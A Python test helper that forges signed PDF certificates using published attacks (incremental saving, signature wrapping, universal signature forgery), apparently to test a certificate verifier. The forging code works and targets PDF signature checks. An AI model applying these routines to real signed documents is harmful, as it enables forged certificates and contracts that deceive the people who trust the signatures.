"""Forge signed une-eval certificates the way the published PDF signature attacks do (a test helper).

Every attack is a pure function ``bytes -> bytes`` over a signed certificate (the shadow attacks, in
:mod:`pdf_shadow`, also need a step before signing). The classes follow their published descriptions:

- ISA, incremental saving attack: content appended after the signed revision (Mladenov et al., CCS 2019);
- SWA, signature wrapping: the signed bytes kept but moved, so that attacker objects sit inside the
  signature's gap or beside it (ibid.);
- USF, universal signature forgery: a signature dictionary whose /ByteRange or /Contents is missing or
  nonsense, in the hope that the verifier skips the check (ibid.);
- shadow hide / replace / hide-and-replace: objects planted before signing and revealed after
  (Mainka, Mladenov, Rohlmann, NDSS 2021).

What the forger wants the file to say is a :class:`Payload`; :data:`MARKER` is a line that appears on the
forged page and never in a genuine certificate, so a text extractor shows whether the forgery "took".
"""

from __future__ import annotations

from collections.abc import Callable, Mapping
from dataclasses import dataclass

from pyhanko.pdf_utils import generic

from tests.unit.report.pdf_surgery import (
    BYTE_RANGE,
    FONT,
    Layout,
    append_update,
    escape_literal,
    info_dict,
    layout,
    literal_length,
    next_free,
    page_content,
    render_objects,
    serialise,
    signature_dict,
    signature_hex,
    stream,
    trailer_entries,
    xref_and_objects,
    xref_stream,
)

MARKER = "ACME-FRONTIER-MODEL-X-FORGED"  # one word, so text extraction cannot split it across lines

Attack = Callable[[bytes], bytes]


@dataclass(frozen=True)
class Payload:
    """What the forger wants a verifier to read: /Info entries, page text and attachments."""

    info: Mapping[str, str]
    lines: tuple[str, ...]
    attachments: Mapping[str, bytes]


def conformity_payload(number: str, submission: bytes, findings: bytes, hashes: tuple[str, str]) -> Payload:
    """The usual goal: certificate ``number`` turned into a certificate of conformity with the given evidence."""
    info = {
        "Title": f"Certificate of conformity {number}",
        "uneevalcertificatenumber": number,
        "uneevalverdict": "conformant",
        "uneevalprofile": "une-style",
        "uneevalsubmissionsha256": hashes[0],
        "uneevalfindingssha256": hashes[1],
    }
    lines = ("Certificate of conformity", f"Certificate number {number}", "Verdict: CONFORMANT", f"Model {MARKER}")
    return Payload(info, lines, {"submission.json": submission, "findings.json": findings})


def replaced_page(lay: Layout, contents_num: int) -> bytes:
    """Page 1's dictionary with its content replaced by object ``contents_num`` (signature widget kept)."""
    page = generic.DictionaryObject(dict(lay.page))
    page["/Contents"] = generic.IndirectObject(contents_num, 0, None)
    body = serialise(page)
    resources = serialise(lay.page.raw_get("/Resources"))
    return body.replace(b"/Resources " + resources, b"/Resources " + FONT, 1)


def payload_objects(
    lay: Layout, payload: Payload, *, parts: str = "info page files", encoding: str = "flate"
) -> dict[int, bytes]:
    """The objects an attacker adds or redefines to make ``lay``'s file say ``payload``."""
    objects: dict[int, bytes] = {}
    if "info" in parts:
        objects[lay.info_num] = info_dict(payload.info)
    if "page" in parts:
        objects[lay.size] = stream(page_content(payload.lines), encoding=encoding)
        objects[lay.page_num] = replaced_page(lay, lay.size)
    if "files" in parts:
        for name, num in lay.attachment_nums.items():
            blob = payload.attachments[name]
            params = b"/Type /EmbeddedFile /Params << /Size %d >>" % len(blob)
            objects[num] = stream(blob, params, encoding=encoding)
    return objects


# --- ISA: incremental saving -------------------------------------------------------------------------


def isa(payload: Payload, *, parts: str = "info page files", form: str = "table") -> Attack:
    """Append an update that makes the file say ``payload`` (``parts`` picks what it replaces)."""

    def forge(data: bytes) -> bytes:
        lay = layout(data)
        return append_update(lay, payload_objects(lay, payload, parts=parts), form=form)

    return forge


def appended_comment(data: bytes) -> bytes:
    """Bytes after the signed end of file that change nothing a reader shows (a comment line)."""
    return data + b"% une-eval forged\n"


def isa_signature_copy(payload: Payload, *, stretch: bool) -> Attack:
    """ISA that also re-emits the signature dictionary in the update: the signed /ByteRange kept as it was,
    or (``stretch``) with its second range stretched to the new end of file, for checks that only compare
    the last /ByteRange with the file length."""

    def forge(data: bytes) -> bytes:
        lay = layout(data)
        _, a, b, c = lay.byte_range
        contents = data[a:b]
        objects = payload_objects(lay, payload)
        objects[lay.sig_num] = signature_dict(lay, lay.byte_range, contents)
        forged = append_update(lay, objects)
        if stretch:
            grown = (0, a, b, c + len(forged) - len(data))
            objects[lay.sig_num] = signature_dict(lay, grown, contents)
            forged = append_update(lay, objects)
        return forged

    return forge


# --- SWA: signature wrapping -------------------------------------------------------------------------


def _swa_head(lay: Layout, contents: bytes, new_start: int) -> bytes:
    """Everything up to the end of the redefined signature object: the first signed part unchanged."""
    _, a, _, c = lay.byte_range
    head = lay.data[:a]
    sig = signature_dict(lay, (0, a, new_start, c), contents)
    return head + sig[sig.index(b"/Contents ") + len(b"/Contents ") :] + b"\nendobj\n"


def _swa_merged(lay: Layout) -> dict[int, int]:
    """The signed revision's xref entries for objects in the first signed part (they did not move)."""
    return {n: off for n, off in lay.signed_entries.items() if off < lay.byte_range[1]}


def swa(payload: Payload, *, wrap: str = "none", chain: bool = False) -> Attack:
    """Move the second signed part to the end of the file and put attacker objects in the freed gap.

    The /Contents hex string loses its zero padding; the signature dictionary is closed right after it with
    a /ByteRange naming the relocated second part; a new xref stream sits exactly where the signed
    ``startxref`` points, so the relocated signed trailer leads readers to the attacker's objects.
    ``wrap="stream"`` puts the relocated part in a stream (parsers skip it); ``chain`` keeps the signed xref
    as a revision of its own (the new xref's /Prev names its relocated copy) instead of merging it.
    """

    def forge(data: bytes) -> bytes:
        lay = layout(data)
        _, _, b, c = lay.byte_range
        objects = payload_objects(lay, payload)
        num = next_free(lay, objects)
        head_len = len(_swa_head(lay, b"<" + signature_hex(lay) + b">", 0))
        if wrap == "closed":
            return _swa_closed(lay, objects, num, head_len)
        if head_len > lay.startxref:
            raise ValueError("no room before the signed startxref")
        wrapper = b"%d 0 obj\n<< /Length %d >>\nstream\n" % (num + 1, c) if wrap == "stream" else b""
        keep = {} if chain else _swa_merged(lay)
        draft = xref_and_objects(lay.startxref, num, objects, keep, trailer_entries(lay, size=num + 2, prev=0))
        new_start = lay.startxref + len(draft) + len(wrapper)
        prev = new_start + (lay.startxref - b) if chain else lay.prev  # the relocated signed xref, or the one before
        tail = xref_and_objects(lay.startxref, num, objects, keep, trailer_entries(lay, size=num + 2, prev=prev))
        head = _swa_head(lay, b"<" + signature_hex(lay) + b">", new_start)
        filler = b" " * (lay.startxref - len(head))
        return head + filler + tail + wrapper + data[b : b + c]

    return forge


def _swa_closed(lay: Layout, objects: Mapping[int, bytes], num: int, head_len: int) -> bytes:
    """SWA with the relocated part inside a complete stream object and the attacker's own xref at the end."""
    _, _, b, c = lay.byte_range
    block, offsets = render_objects(objects, head_len)
    wrapper = b"%d 0 obj\n<< /Length %d >>\nstream\n" % (num + 1, c)
    new_start = head_len + len(block) + len(wrapper)
    body = block + wrapper + lay.data[b : b + c] + b"\nendstream\nendobj\n"
    at = head_len + len(body)
    entries = trailer_entries(lay, size=num + 2, prev=lay.prev)
    xref = xref_stream(num, {**_swa_merged(lay), **offsets, num: at}, entries)
    head = _swa_head(lay, b"<" + signature_hex(lay) + b">", new_start)
    return head + body + xref + b"startxref\n%d\n%%%%EOF\n" % at


def swa_literal(payload: Payload) -> Attack:
    """SWA sized for pyHanko's whole-file arithmetic (file length == both ranges + 2 x contents + 2).

    /Contents becomes a literal string: the signature DER, zero bytes up to the signed ``startxref`` and,
    still inside the string, the attacker's xref stream and objects (ASCIIHex streams, so the string stays
    balanced). Spaces after the signature dictionary make the file exactly as long as a gap holding
    that string in hex would be; the relocated second signed part ends the file.
    """

    def forge(data: bytes) -> bytes:
        lay = layout(data)
        _, a, b, c = lay.byte_range
        der = escape_literal(bytes.fromhex(signature_hex(lay).decode()))
        objects = payload_objects(lay, payload, encoding="hex")
        num = next_free(lay, objects)
        if a + 1 + len(der) > lay.startxref:
            raise ValueError("no room before the signed startxref")
        entries = trailer_entries(lay, size=num + 1, prev=lay.prev)
        body = der + b"\0" * (lay.startxref - a - 1 - len(der))
        body += xref_and_objects(lay.startxref, num, objects, _swa_merged(lay), entries, encoding="asciihex")
        new_start = a + 2 * literal_length(body) + 2
        head = _swa_head(lay, b"(" + body + b")", new_start)
        if len(head) > new_start:
            raise ValueError("the signature dictionary overruns the relocated part")
        return head + b" " * (new_start - len(head)) + data[b : b + c]

    return forge


# --- USF: universal signature forgery ----------------------------------------------------------------


def _set_byte_range(text: str) -> Callable[[Layout, bytes], bytes]:
    def mutate(lay: Layout, sig: bytes) -> bytes:
        _, a, b, c = lay.byte_range
        value = text.format(a=a, b=b, c=c, end=len(lay.data), half=a // 2, rest=b + c - a // 2)
        return BYTE_RANGE.sub(b"/ByteRange " + value.encode(), sig, count=1)

    return mutate


def _set_contents(value: bytes | None) -> Callable[[Layout, bytes], bytes]:
    def mutate(lay: Layout, sig: bytes) -> bytes:
        _, a, b, _ = lay.byte_range
        replacement = b"" if value is None else b"/Contents " + value.replace(b"SIG", lay.data[a:b])
        return sig.replace(b"/Contents " + lay.data[a:b], replacement, 1)

    return mutate


def _drop_byte_range(lay: Layout, sig: bytes) -> bytes:
    return BYTE_RANGE.sub(b"", sig, count=1)


USF_MUTATIONS: dict[str, Callable[[Layout, bytes], bytes]] = {
    "byterange-missing": _drop_byte_range,
    "byterange-empty": _set_byte_range("[]"),
    "byterange-zero": _set_byte_range("[0 0 0 0]"),
    "byterange-negative": _set_byte_range("[0 {a} -{b} {c}]"),
    "byterange-overlapping": _set_byte_range("[0 {a} {half} {rest}]"),
    "byterange-past-eof": _set_byte_range("[0 {a} {b} {end}0]"),
    "byterange-short": _set_byte_range("[0 {a} {b} 10]"),
    "contents-missing": _set_contents(None),
    "contents-empty": _set_contents(b"<>"),
    "contents-not-hex": _set_contents(b"<ZZ" + b"0" * 16 + b"XY>"),
    "contents-not-string": _set_contents(b"[SIG]"),
}


def usf(payload: Payload, mutation: str) -> Attack:
    """An update that makes the file say ``payload`` and redefines the signature dictionary per ``mutation``."""
    mutate = USF_MUTATIONS[mutation]

    def forge(data: bytes) -> bytes:
        lay = layout(data)
        _, a, b, _ = lay.byte_range
        objects = payload_objects(lay, payload)
        objects[lay.sig_num] = mutate(lay, signature_dict(lay, lay.byte_range, data[a:b]))
        return append_update(lay, objects)

    return forge
